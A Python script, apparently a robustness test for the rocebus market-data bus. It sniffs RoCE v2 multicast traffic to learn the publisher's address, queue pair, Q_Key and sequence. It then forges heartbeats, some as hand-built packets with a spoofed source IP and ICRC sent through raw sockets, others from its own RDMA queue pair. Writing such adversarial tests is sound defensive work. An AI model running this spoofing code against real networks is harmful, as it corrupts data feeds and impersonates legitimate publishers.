#!/usr/bin/python3
"""A stranger on the fabric forging market-data bus heartbeats, built from
raw verbs with Debian's python3-pyverbs (rdma-core) and raw IP sockets, not
from rocebus.

It first sniffs the channel as anyone on the fabric can: a raw socket sees
every RoCE v2 datagram (UDP port 4791) delivered to the host for `--group`,
and from the publisher's data datagrams of `--channel` it learns the
publisher's address and queue pair (IP source, DETH source QP), the Q_Key,
the session and the next sequence (rocebus::mcast::wire's datagram header:
"RB", version 1, line, channel, count, session, first_seq, little-endian).
Then, every `--every-ms` and in turn, it sends a heartbeat (a header with
count 0) of that session:

  spoofed_far   next + `--far` (default 1,000,000), as a RoCE v2 packet
                built by hand (IP, UDP, BTH, DETH, payload, ICRC) with the
                publisher's IP address and source QP, through a raw IP
                socket: what a host that can forge its source sends;
  spoofed_near  the same at next + `--near` (default 20): slightly ahead;
  stranger      next + `--far`, posted on its own UD queue pair (pyverbs:
                an address handle with the group's GID, `is_global`, the
                channel's Q_Key, destination QP 0xFFFFFF): what any host
                on the fabric sends without forging anything.

It prints `sniffed ...` once it learned the stream, `forging` after its
first forgeries, `progress N` every 30 forgeries, and, when standard input
closes or after `--seconds`, one JSON object: the forgeries sent per kind,
what it sniffed (`source_ip`, `source_qp`, `qkey`, `session`, `next`) and
`errors`.

Run it as root (raw sockets) with Debian's interpreter (/usr/bin/python3):
the python3 first on a machine's PATH may be another build that does not
see python3-pyverbs.
"""

import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time
import zlib

import pyverbs.enums as e
from pyverbs.addr import AH, AHAttr, GID, GlobalRoute
from pyverbs.cq import CQ
from pyverbs.device import Context
from pyverbs.mr import MR
from pyverbs.pd import PD
from pyverbs.qp import QP, QPAttr, QPCap, QPInitAttr
from pyverbs.wr import SGE, SendWR

ROCE_PORT = 4791
UD_SEND_ONLY = 100  # BTH opcode
MCAST_QPN = 0xFFFFFF
MAGIC = b"RB"
HEADER = struct.Struct("<2sBBHHQQ")  # magic, version, line, channel, count, session, first_seq


def heartbeat(channel, session, seq):
    return HEADER.pack(MAGIC, 1, 0, channel, 0, session, seq)


def parse_roce(pkt):
    """(src ip, dst ip, src qp, qkey, payload) of an IPv4 RoCE v2 UD send, or None."""
    if len(pkt) < 20 or pkt[0] >> 4 != 4:
        return None
    ihl = (pkt[0] & 15) * 4
    if pkt[9] != 17 or len(pkt) < ihl + 8 + 12 + 8 + 4:
        return None
    dport = struct.unpack_from(">H", pkt, ihl + 2)[0]
    if dport != ROCE_PORT:
        return None
    bth = ihl + 8
    if pkt[bth] != UD_SEND_ONLY:
        return None
    pad = (pkt[bth + 1] >> 4) & 3
    qkey, srcqp = struct.unpack_from(">II", pkt, bth + 12)
    payload = pkt[bth + 20:len(pkt) - 4 - pad]
    return (socket.inet_ntoa(pkt[12:16]), socket.inet_ntoa(pkt[16:20]),
            srcqp & 0xFFFFFF, qkey, payload)


def roce_packet(src, dst, srcqp, qkey, payload):
    """An IPv4 RoCE v2 UD SEND ONLY to the multicast QP, ICRC included (as
    rxe computes it: CRC-32 over 8 bytes of ones, the IP header with TOS,
    TTL and checksum set to ones, the UDP header with its checksum set to
    ones, the BTH with resv8a set to ones, then DETH and payload)."""
    pad = -len(payload) % 4
    body = payload + b"\0" * pad
    bth = struct.pack(">BBHI", UD_SEND_ONLY, pad << 4, 0xFFFF, MCAST_QPN)
    bth += struct.pack(">I", random.getrandbits(24))  # no ack request, a PSN
    deth = struct.pack(">II", qkey, srcqp & 0xFFFFFF)
    udp_len = 8 + len(bth) + len(deth) + len(body) + 4
    udp = struct.pack(">HHHH", random.randint(49152, 65535), ROCE_PORT, udp_len, 0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + udp_len,
                     random.randint(1, 0xFFFF),  # non-zero: the kernel keeps it
                     0x4000, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    masked_ip = bytearray(ip)
    masked_ip[1] = 0xFF
    masked_ip[8] = 0xFF
    masked_ip[10:12] = b"\xff\xff"
    masked_udp = udp[:6] + b"\xff\xff"
    masked_bth = bth[:4] + b"\xff" + bth[5:]
    crc = zlib.crc32(b"\xff" * 8 + bytes(masked_ip) + masked_udp + masked_bth + deth + body)
    return ip + udp + bth + deth + body + struct.pack("<I", crc)


class Stranger:
    """A UD queue pair of its own, sending to the group (pyverbs)."""

    def __init__(self, dev, gid_index, group, qkey):
        self.ctx = Context(name=dev)
        self.pd = PD(self.ctx)
        self.cq = CQ(self.ctx, 16)
        cap = QPCap(max_send_wr=8, max_recv_wr=1, max_send_sge=1, max_recv_sge=1)
        init = QPInitAttr(qp_type=e.IBV_QPT_UD, scq=self.cq, rcq=self.cq, cap=cap)
        attr = QPAttr(port_num=1)
        attr.qkey = qkey
        self.qp = QP(self.pd, init, attr)  # a UD QP given attributes goes to RTS
        mgid = socket.inet_aton(group)
        raw = bytes(10) + b"\xff\xff" + mgid
        text = ":".join(raw[i:i + 2].hex() for i in range(0, 16, 2))
        # rdma-core 44: a UD send to a multicast group needs a global route
        # to the group's GID (IPv4-mapped on RoCE v2) and is_global set.
        gr = GlobalRoute(dgid=GID(text), sgid_index=gid_index)
        self.ah = AH(self.pd, attr=AHAttr(gr=gr, is_global=1, port_num=1))
        self.mr = MR(self.pd, 256, e.IBV_ACCESS_LOCAL_WRITE)
        self.qkey = qkey

    def send(self, data):
        self.mr.write(data, len(data))
        wr = SendWR(opcode=e.IBV_WR_SEND, num_sge=1,
                    sg=[SGE(self.mr.buf, len(data), self.mr.lkey)],
                    send_flags=e.IBV_SEND_SIGNALED)
        wr.set_wr_ud(self.ah, MCAST_QPN, self.qkey)
        self.qp.post_send(wr)
        t = time.monotonic()
        while time.monotonic() - t < 2:
            n, wcs = self.cq.poll()
            if n:
                if wcs[0].status != e.IBV_WC_SUCCESS:
                    raise RuntimeError("send completion status %d" % wcs[0].status)
                return
        raise RuntimeError("no send completion")


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--group", required=True)
    ap.add_argument("--channel", type=int, required=True)
    ap.add_argument("--device", default=os.environ.get("ROCEBUS_RDMA_DEVICE", "rxe0"))
    ap.add_argument("--gid-index", type=int,
                    default=int(os.environ.get("ROCEBUS_GID_INDEX", "1")))
    ap.add_argument("--far", type=int, default=1_000_000)
    ap.add_argument("--near", type=int, default=20)
    ap.add_argument("--every-ms", type=float, default=20.0)
    ap.add_argument("--seconds", type=float, default=120.0)
    args = ap.parse_args()

    sniff = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    sniff.setblocking(False)
    inject = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    inject.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    learned = None  # [src ip, src qp, qkey, session, next]
    stranger = None
    sent = {"spoofed_far": 0, "spoofed_near": 0, "stranger": 0}
    errors = []
    t0 = time.monotonic()
    next_forge = None
    turn = 0
    stdin_open = True
    while time.monotonic() - t0 < args.seconds:
        watch = [sniff] + ([sys.stdin] if stdin_open else [])
        ready, _, _ = select.select(watch, [], [], 0.002)
        if sys.stdin in ready and not sys.stdin.buffer.read1(4096):
            break
        while True:
            try:
                pkt = sniff.recv(65535)
            except BlockingIOError:
                break
            r = parse_roce(pkt)
            if r is None or r[1] != args.group or len(r[4]) < HEADER.size:
                continue
            src, _, srcqp, qkey, payload = r
            magic, version, _, channel, count, session, first = HEADER.unpack_from(payload)
            # Data datagrams of the channel only: heartbeats (ours among
            # them, looped back) say nothing of where the stream is.
            if magic != MAGIC or version not in (1, 2) or channel != args.channel or count == 0:
                continue
            if learned is None:
                learned = [src, srcqp, qkey, session, first + count]
                print("sniffed source %s qp %d qkey 0x%x session %d next %d"
                      % (src, srcqp, qkey, session, first + count), flush=True)
                try:
                    stranger = Stranger(args.device, args.gid_index, args.group, qkey)
                except Exception as ex:  # noqa: BLE001 - reported, the spoofing goes on
                    errors.append("stranger set-up: %r" % ex)
                next_forge = time.monotonic()
            elif (src, srcqp, session) == tuple(learned[:2]) + (learned[3],):
                learned[4] = max(learned[4], first + count)
        if learned is None or time.monotonic() < next_forge:
            continue
        next_forge += args.every_ms / 1000.0
        src, srcqp, qkey, session, nxt = learned
        kind = ["spoofed_far", "spoofed_near", "stranger"][turn % 3]
        turn += 1
        try:
            if kind == "stranger":
                if stranger is None:
                    continue
                stranger.send(heartbeat(args.channel, session, nxt + args.far))
            else:
                ahead = args.far if kind == "spoofed_far" else args.near
                pkt = roce_packet(src, args.group, srcqp, qkey,
                                  heartbeat(args.channel, session, nxt + ahead))
                inject.sendto(pkt, (args.group, 0))
            sent[kind] += 1
        except Exception as ex:  # noqa: BLE001 - counted, the forging goes on
            if len(errors) < 10:
                errors.append("%s: %r" % (kind, ex))
        n = sum(sent.values())
        if n == 3:
            print("forging", flush=True)
        if n % 30 == 0 and n:
            print("progress %d" % n, flush=True)
    print(json.dumps({
        "sent": sent,
        "sniffed": None if learned is None else dict(zip(
            ["source_ip", "source_qp", "qkey", "session", "next"], learned)),
        "errors": errors,
        "seconds": round(time.monotonic() - t0, 3),
    }), flush=True)


if __name__ == "__main__":
    main()
